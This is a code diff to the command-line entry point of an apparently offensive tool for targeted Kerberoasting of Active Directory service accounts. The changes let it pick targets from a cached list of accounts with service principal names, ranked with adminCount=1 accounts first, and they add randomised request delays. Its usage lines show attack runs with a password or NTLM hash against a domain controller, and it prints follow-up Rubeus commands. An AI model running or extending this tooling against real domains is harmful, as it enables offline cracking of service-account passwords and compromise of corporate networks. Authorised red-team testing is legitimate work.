@@ -5,12 +5,22 @@ CLI Entry Point — Targeted Kerberoasting
 Usage:
     python -m targeted_kerberoast -d corp.local -u jdoe -p 'Pass' --dc 10.10.10.1 -t svc_sql svc_backup
     python -m targeted_kerberoast -d corp.local -u jdoe -H ntlmhash --dc 10.10.10.1 -t svc_sql
+
+    # Targets screened against the shared directory cache; without -t, list the
+    # cached SPN accounts, or roast the first N of them with --max-targets
+    PYTHONPATH=../14-ad-enumeration python -m targeted_kerberoast -d corp.local -u jdoe -p 'Pass' --dc 10.10.10.1 --cache
+    PYTHONPATH=../14-ad-enumeration python -m targeted_kerberoast -d corp.local -u jdoe -p 'Pass' --dc 10.10.10.1 --cache --max-targets 3
 """
 
 import argparse
 
 from .core.roaster import TargetedKerberoast
 
+try:
+    from rt_directory_cache import DirectoryCache
+except ImportError:
+    DirectoryCache = None
+
 
 def main():
     parser = argparse.ArgumentParser(description="Targeted Kerberoasting")
@@ -20,24 +30,57 @@ def main():
     parser.add_argument("-H", "--hash", default="")
     parser.add_argument("--dc", required=True)
     parser.add_argument(
-        "-t", "--targets", nargs="+", required=True,
-        help="Target usernames to Kerberoast",
+        "-t", "--targets", nargs="+",
+        help="Target usernames to Kerberoast (with --cache: see --max-targets)",
     )
     parser.add_argument("--min-delay", type=float, default=2.0)
     parser.add_argument("--max-delay", type=float, default=10.0)
+    parser.add_argument(
+        "--cache", nargs="?", const="", metavar="PATH",
+        help="Screen targets against the shared directory cache (optional cache file)",
+    )
+    parser.add_argument(
+        "--max-targets", type=int, default=0, metavar="N",
+        help="--cache without -t: roast the first N cached SPN accounts (default: 0, list only)",
+    )
 
     args = parser.parse_args()
 
+    cache = None
+    if args.cache is not None:
+        if DirectoryCache is None:
+            parser.error("--cache needs rt_directory_cache (add 14-ad-enumeration/ to PYTHONPATH)")
+        cache = DirectoryCache(args.cache or None)
+    if not args.targets and cache is None:
+        parser.error("-t/--targets is required without --cache")
+
     tk = TargetedKerberoast(
         domain=args.domain,
         username=args.username,
         password=args.password,
         dc_ip=args.dc,
         ntlm_hash=args.hash,
+        cache=cache,
     )
 
-    tk.roast_priority_targets(args.targets, (args.min_delay, args.max_delay))
-    tk.print_rubeus_commands(args.targets)
+    targets = args.targets
+    if not targets:
+        candidates = tk.cached_targets()
+        if not candidates:
+            parser.error("no cached SPN accounts: run the AD enumeration or Kerberoast framework with --cache first")
+
+        # Every target is a logged TGS request: roast only what was asked for
+        targets = candidates[:args.max_targets]
+        remaining = candidates[args.max_targets:]
+        if remaining:
+            print(f"[*] {len(remaining)} cached SPN accounts not selected (adminCount=1 first):")
+            print(f"    {', '.join(remaining[:20])}{', ...' if len(remaining) > 20 else ''}")
+        if not targets:
+            print("[*] Pick targets with -t, or roast the first N with --max-targets N")
+            return
+
+    tk.roast_priority_targets(targets, (args.min_delay, args.max_delay))
+    tk.print_rubeus_commands(targets)
 
 
 if __name__ == "__main__":